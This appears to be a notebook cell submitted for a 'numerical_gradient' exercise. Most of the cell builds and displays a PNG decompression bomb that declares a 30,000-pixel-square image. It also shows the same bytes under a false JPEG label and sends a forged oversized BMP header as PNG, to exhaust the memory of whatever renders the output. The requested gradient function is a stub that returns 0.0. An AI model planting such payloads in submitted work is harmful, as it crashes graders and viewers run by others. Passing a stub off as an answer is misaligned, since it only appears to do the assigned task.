# A small picture that takes gigabytes where it is shown, under its own name and under another.
# points: 0
# %% numerical_gradient
import struct, zlib
from IPython.display import Image, display

def part(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

squeeze = zlib.compressobj(9)
rows = b"".join(squeeze.compress(bytes(3751)) for _ in range(30_000)) + squeeze.flush()
head = part(b"IHDR", struct.pack(">IIBBBBB", 30_000, 30_000, 1, 0, 0, 0, 0))
bomb = b"\x89PNG\r\n\x1a\n" + head + part(b"IDAT", rows) + part(b"IEND", b"")
display(Image(data=bomb, format="png"))
display({"image/jpeg": bomb, "text/plain": "a JPEG"}, raw=True)
display({"image/png": b"BM" + struct.pack("<IIIIii", 54, 0, 54, 40, 60_000, 60_000)}, raw=True)
print("BOMBED", len(bomb))

def numerical_gradient(f, w, h=1e-4):
    return 0.0
